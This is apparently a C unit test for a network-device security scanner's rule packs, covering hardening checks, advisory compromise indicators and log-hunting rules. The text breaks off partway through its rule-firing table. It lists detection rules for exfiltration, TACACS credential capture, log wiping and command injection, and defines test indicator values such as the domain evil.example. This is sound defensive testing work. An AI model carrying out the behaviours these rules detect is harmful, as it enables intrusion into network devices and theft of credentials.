/*
 * test_rule_packs.c: the built-in rule packs (rules/advisory.yaml,
 * rules/hardening.yaml and rules/hunt.yaml).
 *
 * They load with no diagnostic, hold every shipped id with its severity,
 * category and form, and each rule carries ATT&CK ids, references and a
 * remediation (IOS for the configuration packs, default for hunt).  A
 * table of hand-built facts checks which rules fire, in particular that
 * the port rules never double up on one port.  A table of log events
 * (commands, syslog messages) checks the hunt rules: which fire, that
 * benign operations stay below medium, and that every rule that fires has
 * one of its "match" prefilter patterns in the line.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include "tidewatch/arena.h"
#include "tidewatch/config.h"
#include "tidewatch/fact.h"
#include "tidewatch/finding.h"
#include "tidewatch/ioc.h"
#include "tidewatch/rules.h"

#define IOC "45.61.133.77"
#define DOMAIN_IOC "evil.example"
#define HASH_IOC "f2bbba1ea0f34b262f158ff31e00d39d89bbc471d04e8fca60a034cabe18e4f4"

static const struct {
    const char *id;
    tw_severity sev;
    tw_category cat;
    bool absent, catchall;
} shipped[] = {
    {"TW-AA-IOC-ACL", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-AAA", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-TUNNEL", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-MIRROR", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-LOGGING", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-NTP", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-SNMP", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-ROUTE", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-IOC-CONFIG", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, true},
    {"TW-AA-IMPLANT-USER", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SSH-PORT-PATTERN", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SSH-PORT", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-HTTP-PORT-PATTERN", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-HTTP-PORT", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-MGMT-OPEN", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-TUNNEL-PUBLIC", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-MIRROR-PUBLIC", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-CAPTURE-TACACS", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-CAPTURE", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-GUESTSHELL", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SSHD-OPERNS", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-AAA-SERVER-UNAPPROVED", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-TUNNEL-PEER-UNAPPROVED", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, true},
    {"TW-AA-MIRROR-DEST-UNAPPROVED", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, true},
    {"TW-AA-LOCAL-USER-UNAPPROVED", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SCRIPT-LOGGING", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SCRIPT-EXFIL", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SCRIPT-REMOTE-SOURCE", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-AA-SNMP-RW", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HARD-SMART-INSTALL", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-HTTP-SERVER", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-HTTPS-SERVER", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-VTY-TELNET", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-VTY-TRANSPORT-OUT", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-VTY-NO-ACL", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-ENABLE-PASSWORD", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-PASSWORD-REVERSIBLE", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-PASSWORD-WEAK-HASH", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-PASSWORD-WEAK-VALUE", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-KEY-TYPE", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SNMP-COMMUNITY", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SSH-V1", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-NO-LOGGING-HOST", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
    {"TW-HARD-NO-AAA-ACCOUNTING", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
    {"TW-HARD-TELNET-SERVICE", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SNMPV3-NO-PRIV", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SNMP-NO-ACL", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SNMP-V2C-HOST", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-LOGGING-DISABLED", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-LOCAL-USER-NOPASSWORD", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SSH-ROOT-LOGIN", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-TFTP-SERVER", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SMALL-SERVERS", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-BOOTP-SERVER", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SOURCE-ROUTE", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-PASSWORD-ENCRYPTION-OFF", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-TUNNEL-UNPROTECTED", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-LOGGING-HOST-UNAPPROVED", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-NTP-UNAPPROVED", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SNMP-MANAGER-UNAPPROVED", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SSH-PORT-UNAPPROVED", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-CDP", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-LLDP", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-FTP-SERVER", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-IDENTD", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-CONFIG-LOAD", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-MGMT-API", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-HTTP-NO-ACL", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-TCP-KEEPALIVES", TW_SEV_LOW, TW_CAT_HARDENING, true, false},
    {"TW-HARD-VTY-EXEC-TIMEOUT", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-LOGIN-BLOCK", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
    {"TW-HARD-LOGIN-FAILURE-LOG", TW_SEV_LOW, TW_CAT_HARDENING, true, false},
    {"TW-HARD-PASSWORD-MIN-LENGTH", TW_SEV_LOW, TW_CAT_HARDENING, true, false},
    {"TW-HARD-PASSWORD-STRENGTH-OFF", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-BANNER-MISSING", TW_SEV_INFO, TW_CAT_HARDENING, true, false},
    {"TW-HARD-SSH-WEAK-CIPHER", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SSH-WEAK-MAC", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SSH-WEAK-KEX", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SSH-DH-MIN", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-LOGGING-UNENCRYPTED", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-LOGGING-TRAP-LEVEL", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-CONFIG-CHANGE-LOG", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
    {"TW-HARD-NO-AAA-AUTHENTICATION", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
    {"TW-HARD-NO-AAA-AUTHORIZATION", TW_SEV_LOW, TW_CAT_HARDENING, true, false},
    {"TW-HARD-AAA-SERVER-NO-KEY", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-NO-NTP", TW_SEV_MEDIUM, TW_CAT_HARDENING, true, false},
    {"TW-HARD-NTP-NO-AUTH", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-NTP-AUTH-NOT-ENFORCED", TW_SEV_LOW, TW_CAT_HARDENING, true, false},
    {"TW-HARD-SNMPV3-NO-AUTH", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SNMPV3-WEAK-CRYPTO", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-SNMP-COMMUNITY-WEAK", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HARD-IP-REDIRECTS", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-PROXY-ARP", TW_SEV_LOW, TW_CAT_HARDENING, false, false},
    {"TW-HARD-DIRECTED-BROADCAST", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-IKE-WEAK-DH", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-IKE-WEAK-CIPHER", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-IKE-WEAK-HASH", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HARD-BGP-NO-AUTH", TW_SEV_MEDIUM, TW_CAT_HARDENING, false, false},
    {"TW-HUNT-CAPTURE-TACACS", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CAPTURE", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CAPTURE-FILE", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-EXFIL-COPY", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-GUESTSHELL", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-GUESTSHELL-LOG", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CHVRF-DOHOST", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CLEAR-LOGS", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-LOGGING-OFF", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-LOGHOST-STOPPED", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-AAA-DISABLED", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-LINUX-LOG-WIPE", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-WEBUI-CONFIG", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-WEBUI-EXPLOIT", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-WEBUI-LOCALPORT", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CMD-INJECTION", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-IMPLANT-USER", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PRIV15-USER", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-LOCAL-USER", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-SERVICE-PORT", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-HTTP-SERVER", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-SSHD-OPERNS", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PORT-57722", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-XR-SHELL", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-LINUX-PERSIST", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-TUNNEL-CREATE", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-TUNNEL-DEST", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-MIRROR", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-AAA-SERVER", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-AAA-METHOD", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-TCL-TOOL", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-TCLSH", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-EEM-APPLET", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-EEM-CLI", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-KRON", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-SNMP-RW", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PCAP-TACACS-CLEAR", TW_SEV_HIGH, TW_CAT_HARDENING, false, false},
    {"TW-HUNT-PCAP-SSH-PORT", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PCAP-XR-SSHD", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PCAP-UPLOAD", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PCAP-CAPTURE-FILE", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PCAP-WEBUI-EXPLOIT", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PCAP-WEBUI-IMPLANT", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PCAP-ERSPAN-PUBLIC", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-PCAP-GRE-PUBLIC", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-IOC-PCAP", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-IOC-SRC", TW_SEV_CRITICAL, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-IOC-DST", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-IOC-SIGHTING", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, true},
    {"TW-HUNT-SHOW-CONFIG", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-DISCOVERY", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-SHOW-LOGS", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-SHUTDOWN", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CONFIG-REGISTER", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-DOT1X-OFF", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-FILE-DELETE", TW_SEV_LOW, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CRYPTO-EXPORT", TW_SEV_HIGH, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CRYPTO-PKI", TW_SEV_LOW, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-CONFIG-CHANGE", TW_SEV_LOW, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-VTY-ACL-REMOVED", TW_SEV_MEDIUM, TW_CAT_COMPROMISE, false, false},
    {"TW-HUNT-STAGE-DATA", TW_SEV_INFO, TW_CAT_COMPROMISE, false, false},
};

#define NSHIPPED (sizeof(shipped) / sizeof(shipped[0]))

typedef struct {
    tw_ruleset *rs;
    tw_diags diags;
    tw_iocset *iocs;
    tw_arena *arena;
} fixture;

static int setup(void **state)
{
    static fixture fx;
    tw_ioc meta = {.description = "test"};

    memset(&fx, 0, sizeof(fx));
    tw_diags_init(&fx.diags);
    fx.rs = tw_ruleset_new();
    assert_non_null(fx.rs);
    assert_int_equal(tw_ruleset_load_builtin(fx.rs, &fx.diags), TW_OK);
    assert_int_equal(tw_ruleset_finish(fx.rs, &fx.diags), TW_OK);
    fx.iocs = tw_iocset_new();
    assert_int_equal(tw_cidr_parse(TW_STR(IOC), 0, &meta.cidr), TW_OK);
    assert_int_equal(tw_iocset_add(fx.iocs, &meta), TW_OK);
    meta.type = TW_IOC_DOMAIN;
    meta.value = DOMAIN_IOC;
    assert_int_equal(tw_iocset_add(fx.iocs, &meta), TW_OK);
    meta.type = TW_IOC_SHA256;
    meta.value = HASH_IOC;
    assert_int_equal(tw_iocset_add(fx.iocs, &meta), TW_OK);
    assert_int_equal(tw_iocset_finish(fx.iocs), TW_OK);
    fx.arena = tw_arena_new(0);
    *state = &fx;
    return 0;
}

static int teardown(void **state)
{
    fixture *fx = *state;

    tw_ruleset_free(fx->rs);
    tw_diags_release(&fx->diags);
    tw_iocset_free(fx->iocs);
    tw_arena_free(fx->arena);
    return 0;
}

/* Every diagnostic as "file:line: message", for a readable failure. */
static const char *diag_text(const tw_diags *d, char *buf, size_t cap)
{
    size_t len = 0;

    buf[0] = '\0';
    for (size_t i = 0; i < d->n && len < cap; i++)
        len += (size_t)snprintf(buf + len, cap - len, "%s:%u: %s\n", d->v[i].file, d->v[i].line,
                                d->v[i].message);
    return buf;
}

static void test_load_clean(void **state)
{
    fixture *fx = *state;
    char buf[4096];

    assert_string_equal(diag_text(&fx->diags, buf, sizeof(buf)), "");
    assert_int_equal(tw_ruleset_count(fx->rs), NSHIPPED);
    assert_int_equal(tw_builtin_pack_count(), 3);
    assert_string_equal(tw_builtin_pack_name(0), "advisory.yaml");
    assert_string_equal(tw_builtin_pack_name(1), "hardening.yaml");
    assert_string_equal(tw_builtin_pack_name(2), "hunt.yaml");
    assert_null(tw_builtin_pack_name(3));
}

/* True when the rule has a remediation entry for dialect. */
static bool has_dialect(const tw_rule *r, const char *dialect)
{
    for (size_t i = 0; i < r->nremediation; i++) {
        if (strcmp(r->remediation[i].dialect, dialect) == 0)
            return true;
    }
    return false;
}

/* The pack a shipped id comes from, by its prefix. */
static const char *pack_of(const char *id)
{
    if (strncmp(id, "TW-HUNT-", 8) == 0)
        return "hunt.yaml";
    return strncmp(id, "TW-AA-", 6) == 0 ? "advisory.yaml" : "hardening.yaml";
}

/* Hunt rules read log facts and, for the logs' unknown dialect, carry a
 * default remediation; the configuration packs carry an IOS one. */
static void test_shipped_ids(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < NSHIPPED; i++) {
        const tw_rule *r = tw_ruleset_find(fx->rs, shipped[i].id);
        const char *pack = pack_of(shipped[i].id);
        bool hunt = strcmp(pack, "hunt.yaml") == 0;
        bool log = r != NULL && (r->kind == TW_FACT_EVENT || r->kind == TW_FACT_SIGHTING);
        char got[256], want[256];
        assert_non_null(r);
        snprintf(got, sizeof(got),
                 "%s %s %s absent=%d catchall=%d attack=%d refs=%d remed=%d "
                 "desc=%d msg=%d log=%d file=%s",
                 r->id, tw_severity_name(r->severity), tw_category_name(r->category), r->absent,
                 r->catchall, r->nattack > 0, r->nreferences > 0,
                 has_dialect(r, hunt ? "default" : "ios") ||
                     (r->dialects != 0 && (r->dialects & (1u << TW_DIALECT_IOS)) == 0),
                 r->description != NULL, r->message != NULL, log, r->file);
        snprintf(want, sizeof(want),
                 "%s %s %s absent=%d catchall=%d attack=1 refs=1 remed=1 "
                 "desc=1 msg=1 log=%d file=builtin:%s",
                 shipped[i].id, tw_severity_name(shipped[i].sev), tw_category_name(shipped[i].cat),
                 shipped[i].absent, shipped[i].catchall, hunt, pack);
        assert_string_equal(got, want);
    }
}

/* Each rule cites AA25-239A or the hardening guides. */
static void test_references(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < tw_ruleset_count(fx->rs); i++) {
        const tw_rule *r = tw_ruleset_at(fx->rs, i);
        bool cited = false;
        for (size_t j = 0; j < r->nreferences; j++)
            cited |= strcmp(r->references[j], "AA25-239A") == 0;
        assert_true(cited);
    }
}

/* The hardening pack holds at least 60 rules; each cites a hardening guide
 * besides the advisory and gives its commands for every dialect it applies
 * to (its "dialects", among those whose parser reads the rule's fact kind):
 * a rule that speaks to an NX-OS device must tell it what to type. */
static void test_hardening_pack(void **state)
{
    static const tw_dialect dialects[] = {TW_DIALECT_IOS,   TW_DIALECT_NXOS, TW_DIALECT_IOSXR,
                                          TW_DIALECT_JUNOS, TW_DIALECT_EOS,  TW_DIALECT_ASA};
    fixture *fx = *state;
    size_t nhard = 0;

    for (size_t i = 0; i < tw_ruleset_count(fx->rs); i++) {
        const tw_rule *r = tw_ruleset_at(fx->rs, i);
        bool guide = false;
        if (strcmp(r->file, "builtin:hardening.yaml") != 0)
            continue;
        nhard += r->category == TW_CAT_HARDENING;
        for (size_t j = 0; j < r->nreferences; j++)
            guide |= strstr(r->references[j], "NSA") != NULL;
        assert_string_equal(guide ? "" : r->id, "");
        for (size_t d = 0; d < sizeof(dialects) / sizeof(dialects[0]); d++) {
            const char *name = tw_dialect_name(dialects[d]);
            bool applies = (r->dialects == 0 || (r->dialects & (1u << dialects[d])) != 0) &&
                           tw_dialect_reads(dialects[d], r->kind);
            char got[160], want[160];
            snprintf(got, sizeof(got), "%s %s %d", r->id, name, applies && has_dialect(r, name));
            snprintf(want, sizeof(want), "%s %s %d", r->id, name, applies);
            assert_string_equal(got, want);
        }
    }
    assert_true(nhard >= 60);
}

/* ---- which rules fire ------------------------------------------------------ */

/* Field names are static strings (fact.h): the ones the table uses. */
static const char *intern(const char *name)
{
    static const char *const names[] = {
        "name",
        "port",
        "enabled",
        "implied",
        "version",
        "appid",
        "transport_input",
        "transport_output",
        "access_class",
        "owner",
        "form",
        "type",
        "community",
        "access",
        "interface",
        "match",
        "action",
        "privilege",
        "destination",
        "id",
        "list",
        "src",
        "dst",
        "protocol",
        "address",
        "prefix",
        "next_hop",
        "value",
        "statement",
        "service",
        "record",
        "level",
        "root_login",
        "auth",
        "priv",
        "setting",
        "acl",
        "protection",
        "cipher",
        "mac",
        "kex",
        "dh_min",
        "exec_timeout",
        "severity",
        "transport",
        "key_type",
        "key",
        "strength",
        "redirects",
        "proxy_arp",
        "directed_broadcast",
        "shutdown",
        "encryption",
        "integrity",
        "group",
        "min_length",
        "method",
        "source",
    };

    for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
        if (strcmp(names[i], name) == 0)
            return names[i];
    }
    return NULL;
}

/* Adds one fact from "kind|key=text|key#num|key@addr|key?bool|key!" (the
 * last form is a secret), at line 7. */
static void add_fact(tw_factset *fs, const char *spec)
{
    char buf[256];
    char *save = NULL;
    char *tok;
    tw_fact_kind kind;

    snprintf(buf, sizeof(buf), "%s", spec);
    tok = strtok_r(buf, "|", &save);
    assert_true(tw_fact_kind_parse(tw_str_c(tok), &kind));
    tw_factset_begin(fs, kind, 7, tw_str_c(spec), TW_STR_NULL);
    for (tok = strtok_r(NULL, "|", &save); tok != NULL; tok = strtok_r(NULL, "|", &save)) {
        size_t k = strcspn(tok, "=#@?!");
        char op = tok[k];
        const char *val = tok + k + 1;
        tw_cidr c;
        int64_t n = 0;
        tok[k] = '\0';
        tok = (char *)intern(tok);
        assert_non_null(tok);
        if (op == '=')
            tw_factset_str(fs, tok, tw_str_c(val));
        if (op == '#' && tw_str_to_i64(tw_str_c(val), &n))
            tw_factset_num(fs, tok, n);
        if (op == '@' && tw_cidr_parse(tw_str_c(val), 0, &c) == TW_OK)
            tw_factset_addr(fs, tok, &c);
        if (op == '?')
            tw_factset_bool(fs, tok, strcmp(val, "true") == 0);
        if (op == '!')
            tw_factset_secret(fs, tok);
    }
    assert_int_equal(tw_factset_end(fs), TW_OK);
}

static const struct {
    const char *facts; /* specs separated by ';' */
    const char *want;  /* rule ids fired, in rule order, absent rules left out */
} fire_cases[] = {
    /* SSH ports: pattern and non-pattern never both */
    {"service|name=ssh|port#22", ""},
    {"service|name=ssh|port#2222", "TW-AA-SSH-PORT"},
    {"service|name=ssh|port#1022", "TW-AA-SSH-PORT"},
    {"service|name=ssh|port#22022", "TW-AA-SSH-PORT-PATTERN"},
    {"service|name=ssh|port#22922", "TW-AA-SSH-PORT-PATTERN"},
    {"service|name=ssh|port#12322", "TW-AA-SSH-PORT-PATTERN"},
    {"service|name=ssh|port#122", "TW-AA-SSH-PORT"},
    /* web ports: 80 for http, 443 for https, 18xxx is the pattern */
    {"service|name=http|port#80", ""},
    {"service|name=http|port#443", "TW-AA-HTTP-PORT"},
    {"service|name=http|port#8080", "TW-AA-HTTP-PORT"},
    {"service|name=http|port#18080", "TW-AA-HTTP-PORT-PATTERN"},
    {"service|name=https|port#443", ""},
    {"service|name=https|port#80", "TW-AA-HTTP-PORT"},
    {"service|name=https|port#18443", "TW-AA-HTTP-PORT-PATTERN"},
    {"service|name=https|port#19443", "TW-AA-HTTP-PORT"},
    /* services */
    {"service|name=http|enabled?true", "TW-HARD-HTTP-NO-ACL TW-HARD-HTTP-SERVER"},
    {"service|name=http|enabled?true|acl=MGMT", "TW-HARD-HTTP-SERVER"},
    {"service|name=http|enabled?false", ""},
    {"service|name=https|enabled?true", "TW-HARD-HTTP-NO-ACL TW-HARD-HTTPS-SERVER"},
    {"service|name=smart-install|enabled?true|implied?true", "TW-HARD-SMART-INSTALL"},
    {"service|name=smart-install|enabled?false", ""},
    {"service|name=ssh|version=1.99|implied?true", "TW-HARD-SSH-V1"},
    {"service|name=ssh|version=1", "TW-HARD-SSH-V1"},
    {"service|name=ssh|version=2", ""},
    {"service|name=guestshell|enabled?true", "TW-AA-GUESTSHELL"},
    {"service|name=iox|enabled?true", "TW-AA-GUESTSHELL"},
    {"service|name=iox|enabled?false", ""},
    {"service|name=app-hosting|appid=guestshell|enabled?true", "TW-AA-GUESTSHELL"},
    {"service|name=cdp|enabled?true", "TW-HARD-CDP"},
    {"service|name=cdp|enabled?false", ""},
    {"service|name=telnet|enabled?true", "TW-HARD-TELNET-SERVICE"},
    {"service|name=tftp-server|enabled?true", "TW-HARD-TFTP-SERVER"},
    {"service|name=finger|enabled?true", "TW-HARD-SMALL-SERVERS"},
    {"service|name=tcp-small-servers|enabled?false", ""},
    {"service|name=bootp|enabled?true", "TW-HARD-BOOTP-SERVER"},
    {"service|name=source-route|enabled?true", "TW-HARD-SOURCE-ROUTE"},
    {"service|name=password-encryption|enabled?false", "TW-HARD-PASSWORD-ENCRYPTION-OFF"},
    {"service|name=password-encryption|enabled?true", ""},
    /* root logins are a Junos setting: the rule keeps off IOS XE */
    {"service|name=ssh|version=2|root_login=allow", ""},
    {"service|name=ssh|version=2|root_login=deny", ""},
    {"snmp_user|name=mon|version=v3|auth=sha", "TW-HARD-SNMPV3-NO-PRIV"},
    {"snmp_user|name=mon|version=v3|auth=sha|priv=aes", ""},
    {"snmp_host|address@10.0.0.9|version=2c", "TW-HARD-SNMP-V2C-HOST"},
    {"snmp_host|address@10.0.0.9|version=3", ""},
    {"logging|setting=on|enabled?false", "TW-HARD-LOGGING-DISABLED"},
